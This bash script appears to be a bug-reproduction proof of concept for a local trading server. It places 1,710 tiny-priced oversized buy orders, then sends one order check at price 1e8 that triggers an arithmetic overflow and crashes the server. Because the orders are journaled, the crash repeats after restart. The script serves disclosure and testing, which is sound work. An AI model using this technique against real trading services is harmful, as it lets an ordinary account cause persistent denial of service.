#!/bin/bash
# Expected: no request of an account key kills `solvent serve`; actual: an ordinary account key with 200 USDT places 1,710 buy orders of 1e9 BTC at 1e-8 (each in contract, ~0.08 USDT margin),
# then ONE POST /v1/orders/check (nothing journaled) or place_order at price 1e8 kills the server: checkOrder sums the resting same-side orders (1.71e12) and multiplies by the price (overflow).
# The orders are journaled, so after every restart the same single request kills it again. (The honest price feeder keeps the mark fresh meanwhile.)
set -u
cd "$(dirname "$0")"; . ./lib.sh
D=$(mktemp -d); start_server "$D" || exit 1
AL=$(new_key "$D" account --account alice); PF=$(new_key "$D" price-feeder)
python3 - "$PORT" "$AL" "$PF" <<'PY'
import http.client, json, sys, uuid
port, al, pf = int(sys.argv[1]), sys.argv[2], sys.argv[3]
conn = {}
def cmd(key, body):
    c = conn.setdefault(key, http.client.HTTPConnection("127.0.0.1", port, timeout=20))
    c.request("POST", "/v1/commands", json.dumps(body), {"Authorization": "Bearer " + key, "Idempotency-Key": uuid.uuid4().hex, "Content-Type": "application/json"})
    r = c.getresponse(); data = r.read(); return r.status, data
print("alice deposits 200 USDT:", cmd(al, {"type": "deposit", "account": "alice", "asset": "USDT", "amount": "200"})[0])
accepted = 0
for n in range(1710):
    if n % 300 == 0: cmd(pf, {"type": "mark", "symbol": "BTCUSDT", "price": "65000"})   # the honest feeder
    s, d = cmd(al, {"type": "place_order", "id": "a%d" % n, "account": "alice", "symbol": "BTCUSDT", "quantity": "1000000000", "price": "0.00000001"})
    accepted += b"order_accepted" in d
print("orders accepted:", accepted)
cmd(pf, {"type": "mark", "symbol": "BTCUSDT", "price": "65000"})
PY
check() { curl -s -m10 -o /dev/null -w '%{http_code}' -H "Authorization: Bearer $AL" -H 'Content-Type: application/json' -X POST "$U/v1/orders/check" \
  -d '{"account":"alice","symbol":"BTCUSDT","quantity":"1","price":"100000000"}'; }
echo "orders/check at 1e8: http $(check) -> server $(sleep 0.5; alive)"
start_server "$D" >/dev/null; echo "restarted: $(alive); mark: $(cmd "$PF" '{"type":"mark","symbol":"BTCUSDT","price":"65000"}'); orders/check again: http $(check) -> server $(sleep 0.5; alive)"
stop_server "$D"; grep -m1 "Fatal error" "$D/serve.log"
